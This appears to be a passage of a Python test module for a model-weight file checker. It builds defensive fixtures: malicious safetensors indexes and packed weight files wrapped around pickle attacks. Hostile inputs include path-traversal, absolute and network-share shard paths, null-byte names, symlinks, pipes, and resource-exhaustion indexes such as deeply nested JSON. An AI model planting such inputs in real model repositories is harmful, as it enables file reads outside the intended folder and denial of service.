    "saved_id.pth": in_saved_id,
    "constants.pt": torchscript("constants.pkl"),
    "code.pt": torchscript("code/__torch__.py"),
    **{f"old{at}.pth": old(at) for at in range(6)},
    "two.pth": two_archives,
    "comment.pth": in_comment,
    "metadata.safetensors": in_metadata,
    "tensor.safetensors": in_safetensors,
    "npz.pth": npz,
    "npy.pth": npy,
    "packed.pth.gz": lambda attack: gzip.compress(zipped(attack)),
    "packed.zip": lambda attack: archive({"net/README": b"text", "net/zip.pth": zipped(attack)}, zipfile.ZIP_DEFLATED),
    "packed.tar.gz": lambda attack: gzip.compress(tarred({"net/old3.pth": old(3)(attack)})),
}
PACKED = [file for file in WEIGHT_FILES if file.startswith("packed")]
ARCHIVES = {f"{member}.tar": cifar(member) for member in (*CIFAR_10, *CIFAR_100)}
ARCHIVES["train.tar.gz"] = cifar("train", "w:gz")


def index_of(folder: Path, places: object, **shards: dict[str, int]) -> None:
    """An index of shards and its shards, ``a=`` in a.safetensors, each with some zeros by name."""
    content = places if isinstance(places, bytes) else json.dumps({"metadata": {}, "weight_map": places}).encode()
    (folder / "model.safetensors.index.json").write_bytes(content)
    for shard, sizes in shards.items():
        (folder / f"{shard}.safetensors").write_bytes(zeros(sizes))


def zeros(sizes: dict[str, int]) -> bytes:
    """A safetensors file of zeros, so many by name."""
    header, reached = {}, 0
    for key, size in sizes.items():
        header[key] = {"dtype": "F32", "shape": [size], "data_offsets": [reached, reached + 4 * size]}
        reached += 4 * size
    return safetensors(header, bytes(reached))


A, B = "a.safetensors", "b.safetensors"
OTHER_NAME = "which is no name of a weight file next to it: do not use this file"


def outside(shard: str) -> Callable[[Path], str]:
    """An index with a shard outside its folder, where there is a good one."""

    def build(folder: Path) -> str:
        (folder.parent / A).write_bytes(zeros({"w": 3}))
        index_of(folder, {"w": shard.replace("FOLDER", str(folder.parent))})
        return OTHER_NAME

    return build


def link_outside(folder: Path) -> str:
    (folder.parent / A).write_bytes(zeros({"w": 3}))
    (folder / A).symlink_to(folder.parent / A)
    index_of(folder, {"w": A})
    return f"needs shard '{A}', which is a link to another folder: put the file itself next to the index"


def folder_as_shard(folder: Path) -> str:
    (folder / A).mkdir()
    index_of(folder, {"w": A})
    return f"needs shard '{A}', which is not next to it"


def pipe_as_shard(folder: Path) -> str:
    os.mkfifo(folder / A)
    index_of(folder, {"w": A})
    return f"needs shard '{A}', which is not next to it"


def a_million_shards(folder: Path) -> str:
    index_of(folder, {f"w{number}": f"{number}.bin" for number in range(1_000_000)})
    return "more than 10,000,000 bytes: do not use"


def bad_index(message: str, places: object, **shards: dict[str, int]) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        index_of(folder, places, **shards)
        return message

    return build


def bad_shard(message: str, content: bytes) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        index_of(folder, {"v": A, "w": B}, a={"v": 3})
        (folder / B).write_bytes(content)
        return f"shard '{B}' {message}"

    return build


def twice(first: str, second: str) -> bytes:
    return f'{{"weight_map": {{"w": "{first}", "w": "{second}"}}}}'.encode()


NO_INDEX = "is no valid index of shards: download or copy it again"
# By what is wrong with it: puts an index and its shards into a folder, and gives what is said of it.
INDEXES: dict[str, Callable[[Path], str]] = {
    "in the folder above": outside(f"../{A}"),
    "by an absolute path": outside(f"FOLDER/{A}"),
    "in the folder above, for Windows": outside(f"..\\{A}"),
    "on a drive": outside(f"C:{A}"),
    "on another computer": outside(f"\\\\server\\share\\{A}"),
    "in a folder next to it": outside(f"net/{A}"),
    "the folder itself": outside("."),
    "the folder above itself": outside(".."),
    "no name": outside(""),
    "a name with a null": outside(f"{A}\0"),
    "a long name": outside("a" * 256),
    "a number": bad_index(OTHER_NAME, {"w": 1}),
    "a link": link_outside,
    "a folder": folder_as_shard,
    **({"a pipe": pipe_as_shard} if hasattr(os, "mkfifo") else {}),
    "10,000 shards": bad_index(
        "names more than 1,000 shards, which no checkpoint has", {f"w{n}": f"{n}.safetensors" for n in range(10_000)}
    ),
    "1,000,000 shards": a_million_shards,
    "a large index": bad_index("more than 10,000,000 bytes: do not use", {f"w{n:0900}": A for n in range(12_000)}),
    "a deep index": bad_index(NO_INDEX, b'{"weight_map": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    "an index cut short": bad_index(NO_INDEX, b'{"weight_map": {"w": "a.saf'),
    "no places": bad_index(NO_INDEX, {}),
    "a list of places": bad_index(NO_INDEX, [A]),
    "a tensor in two shards": bad_index(NO_INDEX, twice(A, B), a={"w": 3}, b={"w": 3}),
    "a tensor's long name": bad_index("which no network has", {"w" * 2000: A}),
    "half a character as a name": bad_index(NO_INDEX, b'{"weight_map": {"\\ud800": "a.safetensors"}}'),
    "half a character as a shard": bad_index("is not next to it", b'{"weight_map": {"w": "\\ud800"}}'),
    "no such shard": bad_index(
        f"needs shard '{B}', which is not next to it: download it into the same folder", {"v": A, "w": B}, a={"v": 3}
    ),
    "no such tensor": bad_index(
        f"places tensor 'w' in shard '{A}', which does not hold it, so they do not belong together",
        {"v": A, "w": A},
        a={"v": 3},
    ),
    "a tensor more": bad_index(
        f"shard '{A}' holds tensor 'w', which the index does not name", {"v": A}, a={"v": 3, "w": 3}
    ),
    "a tensor in another shard too": bad_index(
        f"shard '{B}' holds tensor 'v', which the index places in '{A}'",
        {"v": A, "w": B},
        a={"v": 3},
        b={"v": 3, "w": 3},
    ),
    "tensors in each other's shards": bad_index(
        f"shard '{A}' holds tensor 'w', which the index places in '{B}'", {"v": A, "w": B}, a={"w": 3}, b={"v": 3}
    ),
    "the index as a shard": bad_index(OTHER_NAME, {"w": "model.safetensors.index.json"}),
    "an empty shard": bad_shard("is empty", b""),
    "a shard cut short": bad_shard("", zeros({"w": 3})[:-1]),
    "a shard in an archive": bad_shard("", gzip.compress(zeros({"w": 3}))),
    "a list as a shard": bad_shard("holds a list instead of a state_dict", archive({"n/data.pkl": program(b"]")})),
}
# Attacks with names that plain pickle understands in one protocol only: dotted ones since 4, those of Python 2 until 2.
OF_ONE_PROTOCOL = {
    "dotted name", "dotted name with an underscore", "pathlib", "Python 2's __builtin__", "Python 2's commands",
}  # fmt: skip
